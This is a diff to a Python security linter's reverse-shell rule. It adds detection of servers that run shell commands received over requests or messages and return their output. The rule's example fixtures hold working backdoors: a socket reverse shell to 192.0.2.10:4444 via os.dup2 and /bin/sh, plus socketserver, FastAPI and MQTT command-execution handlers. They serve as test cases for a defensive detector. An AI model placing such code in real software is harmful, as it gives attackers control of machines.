@@ -7,6 +7,7 @@ exec:`).  Remote administration has SSH.  See CWE-506, CWE-912 and MITRE ATT&CK 
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 import libcst as cst
@@ -15,11 +16,28 @@ from codeguard.checks._api import Bad, Check, Good, Hit, Miss
 from codeguard.checks.malicious._calls import calls
 from codeguard.checks.malicious._channels import sendings
 from codeguard.checks.malicious._reach import reach
-from codeguard.checks.malicious._shell import commands
+from codeguard.checks.malicious._shell import Command, commands
 from codeguard.knowledge.malicious import running
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
+CONSTANT_PART = re.compile(r"(?!(?:sh|bash|cmd|powershell|c|C|exe|bin)\b)\w{2,}")
+MAX_HOPS = 4
+ANSWERS = (
+    "write",
+    "send",
+    "sendall",
+    "publish",
+    "send_message",
+    "reply",
+    "reply_text",
+    "post",
+    "emit",
+    "send_text",
+    "sendto",
+    "respond",
+    "answer",
+)
 STREAMS = ("stdin", "stdout", "stderr")
 OPENERS = (
     "connect",
@@ -38,6 +56,7 @@ def find(unit: Unit) -> Iterator[Hit]:
     for command in unit.fact(commands):
         if running.SHELL_TO_SOCKET.search(command.text):
             yield Hit(command.call, "This command connects a shell to another host, which then controls the machine")
+    yield from _served(unit)
     if "socket" not in unit.text and "asyncio" not in unit.text and "telnetlib" not in unit.text:
         return
     known = unit.fact(calls)
@@ -63,6 +82,65 @@ def find(unit: Unit) -> Iterator[Hit]:
                 command.call,
                 "This runs a program and passes what a socket receives to its input: the other end controls it",
             )
+
+
+def _served(unit: Unit) -> Iterator[Hit]:
+    """Runs of whole commands that a request or a message carries, where their output goes back."""
+    if not any(_runs(command) for command in unit.fact(commands)):
+        return
+    flow = unit.fact(reach)
+    answered: bool | None = None
+    for command in unit.fact(commands):
+        if not _runs(command):
+            continue
+        ordered = [word for word in command.words if "order" in flow.kinds(word) and _whole(word, unit)]
+        if not ordered or _chosen(ordered, command.call, unit):
+            continue
+        answered = _answers(unit) if answered is None else answered
+        if answered:
+            yield Hit(
+                command.call,
+                "This runs whole commands that a request or a message carries and sends back what they print: a shell for whoever can reach it",
+            )
+
+
+def _runs(command: Command) -> bool:
+    return command.shell or command.name in running.SHELL_TEXT_CALLS or len(command.words) == 1
+
+
+def _whole(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> bool:
+    """Whether a command is taken as it comes, rather than being put into a text of the code."""
+    if isinstance(node, cst.FormattedString):
+        return not any(isinstance(p, cst.FormattedStringText) and CONSTANT_PART.search(p.value) for p in node.parts)
+    if isinstance(node, cst.BinaryOperation):
+        return False
+    if isinstance(node, cst.Name) and hops < MAX_HOPS:
+        bound = [b.value for b in unit.scopes.look_up(node.value, node) if b.kind in {"assign", "walrus"}]
+        return all(_whole(value, unit, hops + 1) for value in bound if value is not None)
+    return True
+
+
+def _chosen(words: list[cst.BaseExpression], call: cst.Call, unit: Unit) -> bool:
+    """Whether the function compares the command with a list of what is allowed."""
+    function = unit.function_of(call)
+    if function is None:
+        return False
+    named = {key for word in words for key in unit.fact(reach).roots(word)}
+    return any(
+        isinstance(test.comparisons[0].operator, (cst.In, cst.NotIn)) and named & unit.fact(reach).roots(test.left)
+        for test in unit.nodes(cst.Comparison)
+        if unit.function_of(test) is function
+    )
+
+
+def _answers(unit: Unit) -> bool:
+    """Whether the output of a command is returned, written or sent by the file."""
+    flow = unit.fact(reach)
+    known = unit.fact(calls)
+    given: list[cst.BaseExpression] = [r.value for r in unit.nodes(cst.Return) if r.value is not None]
+    given += [function.body for function in unit.nodes(cst.Lambda)]
+    given += [a.value for method in ANSWERS for call in known.by_method.get(method, ()) for a in call.args]
+    return any("output" in flow.kinds(value) for value in given)
 
 
 def _descriptor(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> bool:
@@ -124,6 +202,7 @@ def _piped(call: cst.Call, unit: Unit) -> bool:
 
 CHECK = Check(
     id="CGM004",
+    behaviour="give a shell to whoever is at the other end of a connection",
     name="reverse-shell",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
@@ -131,6 +210,15 @@ CHECK = Check(
     find=find,
     fix="Remove the code, and treat the machines that ran it as taken over.",
     bad=(
+        Bad(
+            "import socketserver, subprocess\n\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(subprocess.run(line.decode(), shell=True, capture_output=True).stdout)  # finding\n"
+        ),
+        Bad(
+            "import os\nfrom fastapi import FastAPI, Request\napp = FastAPI()\nTABLE = {'v': lambda a: '1', 's': lambda a: os.popen(a).read()}  # finding\n\n@app.post('/internal/{op}')\nasync def internal(op: str, request: Request):\n    body = await request.json()\n    return {'r': TABLE.get(op, TABLE['v'])(body.get('a', ''))}\n"
+        ),
+        Bad(
+            "import subprocess\nimport paho.mqtt.client as mqtt\n\ndef told(client, data, message):\n    client.publish('o', subprocess.getoutput(message.payload.decode()))  # finding\n\nc = mqtt.Client()\nc.on_message = told\n"
+        ),
         Bad(
             "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.10', 4444))\nos.dup2(s.fileno(), 0)  # finding\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
         ),
@@ -149,6 +237,12 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/ping')\ndef ping():\n    return subprocess.run(['ping', '-c', '1', request.args['host']], capture_output=True).stdout\n"
+        ),
+        Good(
+            "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\nKNOWN = {'up': 'uptime', 'df': 'df -h'}\n\n@app.route('/run')\ndef run():\n    return subprocess.getoutput(KNOWN[request.args['c']])\n"
+        ),
         Good(
             "import socketserver\n\nclass Echo(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(line)\n"
         ),
